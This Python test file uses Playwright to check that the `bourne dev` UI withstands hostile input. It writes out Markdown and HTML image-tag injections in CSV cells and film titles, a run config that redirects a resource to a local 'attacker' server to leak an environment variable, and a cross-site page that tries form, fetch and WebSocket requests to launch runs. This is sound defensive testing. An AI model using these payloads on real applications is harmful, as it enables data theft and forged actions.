"""Hostile CSV files, film titles and pages against `bourne dev`, in a real browser."""

import http.server
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Self
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Page, expect

from bourne_assets_tests.standin import Film, InventedFilms, TmdbStandIn
from bourne_assets_tests.support.ui import (
    CHROMIUM,
    DevServer,
    bourne_dev,
    browser_window,
    keep,
    wait_for,
)

_LAUNCH = """mutation Launch($run: ExecutionParams!) {
  launchPipelineExecution(executionParams: $run) { __typename } }"""

pytestmark = [
    pytest.mark.slow,
    pytest.mark.browser,
    pytest.mark.alone,
    pytest.mark.exhaustive,
    pytest.mark.timeout(900),
    pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium: apt-get install chromium"),
]


@dataclass
class Attacker:
    """A server that leads its callers to a mutation of the UI, and keeps what arrives.

    Attributes:
        arrived: Requests: path and headers.
        mutation: Where it leads to.
        page: What it serves at `/page`.
    """

    arrived: list[str] = field(default_factory=list)
    mutation: str = "/"
    page: str = ""

    def __enter__(self) -> Self:
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path == "/page":
                    self._send(200, attacker.page.encode())
                    return
                attacker.arrived.append(f"{self.path}\n{self.headers}")
                self._send(302, b"", Location=attacker.mutation)

            def _send(self, status: int, body: bytes, **headers: str) -> None:
                self.send_response(status)
                for name, value in {**headers, "Content-Type": "text/html"}.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, args=[0.01], daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    """The attacker's server."""
    with Attacker() as server:
        yield server


@pytest.fixture(scope="module")
def tmdb(attacker: Attacker) -> Iterator[TmdbStandIn]:
    """A TMDB where somebody has edited the titles of the saga's films."""
    titles = {
        2501: f"![x]({attacker.url}/title) Bourne",
        2502: f'Bourne <img src="{attacker.url}/tag-title">',
        2503: f"Bourne | {attacker.url}/bare **2** `|",
        # Of another collection, so that it is named among the rejected films.
        2504: f"Bourne <a href='{attacker.url}/link'>",
    }
    films = [
        Film(number, title, number, 2 * number, f"20{number % 100:02}-01-01", 1.0,
             f"tt{number:07}", collection_id=31562 if number < 2504 else 1)
        for number, title in titles.items()
    ]  # fmt: skip
    with TmdbStandIn(InventedFilms.of(films, {31562: "Bourne", 1: "Other"})) as server:
        yield server


@pytest.fixture(scope="module")
def dev(
    tmp_path_factory: pytest.TempPathFactory, attacker: Attacker, tmdb: TmdbStandIn
) -> Iterator[DevServer]:
    """`bourne dev` with a token, and with a CSV file whose cells hold markup."""
    folder: Path = tmp_path_factory.mktemp("project")
    (folder / "csv").mkdir()
    image = f'""<img src=""{attacker.url}/tag"">""'.replace('""<', '"<').replace('>""', '>"')
    (folder / "csv" / "hostile.csv").write_text(
        f"id,cell\n1,![x]({attacker.url}/cell)\n2,{image}\n", encoding="utf-8"
    )
    (folder / "datasets.yaml").write_text("datasets:\n  hostile:\n    id: id\n", encoding="utf-8")
    variables = {
        "BOURNE_CSV_DIR": str(folder / "csv"),
        "BOURNE_CSV_DATASETS": str(folder / "datasets.yaml"),
        "TMDB_READ_ACCESS_TOKEN": tmdb.token,
        "TMDB_BASE_URL": tmdb.base_url,
    }
    with bourne_dev(folder, variables) as server:
        attacker.mutation = f"{server.url}/graphql?{urlencode(_launch(_theft(attacker)))}"
        yield server


@pytest.fixture(scope="module")
def page(dev: DevServer) -> Iterator[Page]:
    """A browser window on the UI."""
    with browser_window(dev.url) as window:
        yield window


def _theft(attacker: Attacker) -> dict[str, Any]:
    stolen = {"base_url": f"{attacker.url}/3", "read_access_token": {"env": "HOME"}}
    return {"resources": {"tmdb": {"config": stolen}}}


def _launch(run_config: dict[str, Any], *assets: str) -> dict[str, str]:
    """The parameters of the mutation that starts a run."""
    selector = {
        "repositoryLocationName": "bourne_assets",
        "repositoryName": "__repository__",
        "pipelineName": "full_refresh" if assets else "refresh_bourne",
        **({"assetSelection": [{"path": [name]} for name in assets]} if assets else {}),
    }
    run = {"selector": selector, "runConfigData": run_config, "mode": "default"}
    return {"query": _LAUNCH, "variables": json.dumps({"run": run})}


def _launched_runs(dev: DevServer) -> list[dict[str, Any]]:
    """The runs that somebody launched, the newest first: sensors start others at any time."""
    return [run for run in dev.runs() if "dagster/sensor_name" not in run["tags"]]


def _launched(page: Page, parameters: dict[str, str]) -> str:
    """What the UI's own endpoint says to a mutation by POST."""
    response = page.request.post(
        f"{page.url.split('/', 3)[0]}//{page.url.split('/')[2]}/graphql",
        data=json.dumps({**parameters, "variables": json.loads(parameters["variables"])}),
        headers={"Content-Type": "application/json"},
    )
    return str(response.json()["data"]["launchPipelineExecution"]["__typename"])


def test_a_cell_of_a_landed_file_steals_nothing(
    page: Page, dev: DevServer, attacker: Attacker
) -> None:
    assert _launched(page, _launch({}, "raw_csvs_s3")) == "LaunchRunSuccess"
    wait_for(
        lambda: [run["status"] for run in _launched_runs(dev)] == ["SUCCESS"],
        400,
        "the file is landed",
    )
    page.goto(f"{dev.url}/assets/csv_datasets/hostile?view=overview")
    expect(page.get_by_text("distinct values").first).to_be_visible()
    page.wait_for_load_state("networkidle")
    keep(page, "hostile-cell")
    shown = page.get_by_text(f"![x](http\u2060://{attacker.url[7:]}/cell)")
    expect(shown).not_to_have_count(0)
    assert not page.locator(f'a[href*="{attacker.url}"], img[src*="{attacker.url}"]').count()
    assert attacker.arrived == []
    assert len(_launched_runs(dev)) == 1


def test_a_title_of_a_film_steals_nothing_and_the_ui_works_through_the_guard(
    page: Page, dev: DevServer, attacker: Attacker
) -> None:
    before, live = len(_launched_runs(dev)), list[str]()
    page.on(
        "websocket",
        lambda socket: socket.on("framereceived", lambda data: live.append(str(data))),
    )
    page.goto(f"{dev.url}/asset-groups")
    page.get_by_role("button", name="Materialize all").click()
    run = wait_for(lambda: _launched_runs(dev)[:-before], 400, "the button starts a run")[0]
    page.goto(f"{dev.url}/runs/{run['id']}")
    wait_for(lambda: _launched_runs(dev)[0]["status"] == "SUCCESS", 400, "the run succeeds")
    # The list of events shows those of its window alone, which may not have followed to the end.
    page.get_by_placeholder("Filter").fill("Finished execution of run")
    expect(page.get_by_text("RUN_SUCCESS").first).to_be_visible()
    assert any("PipelineRunLogsSubscriptionSuccess" in message for message in live)
    for asset in ("insight_metrics", "bourne_saga_table", "tmdb_search", "saga_history"):
        page.goto(f"{dev.url}/assets/{asset}?view=overview")
        expect(page.get_by_text("Latest materialization").first).to_be_visible()
        _open_everything(page, f"{dev.url}/assets/{asset}?view=events")
        keep(page, f"hostile-title-{asset}")
        assert not page.locator(f'a[href*="{attacker.url}"], img[src*="{attacker.url}"]').count()
    assert attacker.arrived == []
    assert len(_launched_runs(dev)) == before + 1


def _open_everything(page: Page, address: str) -> None:
    """Open each Markdown and table of an asset's metadata."""
    links = page.get_by_text(re.compile(r"^\[Show (Markdown|Table)"))
    page.goto(address)
    expect(links.first).to_be_visible()
    for number in range(links.count()):
        links.nth(number).click()
        page.wait_for_load_state("networkidle")
        page.get_by_role("button", name=re.compile("^(Close|Done)$")).first.click()


def test_run_config_over_the_real_endpoint_changes_no_resource(
    page: Page, dev: DevServer, attacker: Attacker
) -> None:
    before = len(_launched_runs(dev))
    assert _launched(page, _launch(_theft(attacker))) == "RunConfigValidationInvalid"
    assert len(_launched_runs(dev)) == before
    assert attacker.arrived == []


def test_a_page_of_another_site_starts_no_run(
    page: Page, dev: DevServer, attacker: Attacker
) -> None:
    before, launch = len(_launched_runs(dev)), _launch({}, "raw_csvs_s3")
    by_get = f"{dev.url}/graphql?{urlencode(launch)}"
    attacker.page = f"""<img id=i><form method=post target=f enctype=text/plain></form>
        <iframe name=f></iframe><script>
        const address = {json.dumps(by_get)};
        const opened = new Promise(done => {{
          const socket = new WebSocket({json.dumps(dev.url.replace("http", "ws") + "/graphql")},
            "graphql-ws");
          socket.onopen = () => done("open"); socket.onerror = () => done("refused"); }});
        const image = new Promise(done => {{
          i.onerror = i.onload = done; i.src = address; }});
        document.forms[0].action = address; document.forms[0].submit();
        const sent = ["text/plain", "application/x-www-form-urlencoded"].map(kind => fetch(address,
          {{method: "POST", mode: "no-cors", headers: {{"Content-Type": kind}}, body: "x"}}));
        window.attempts = Promise.all([opened, image, ...sent]).then(found => found[0]);
        </script>"""
    page.goto(f"{attacker.url}/page")
    assert page.evaluate("window.attempts") == "refused"
    page.wait_for_load_state("networkidle")
    assert len(_launched_runs(dev)) == before
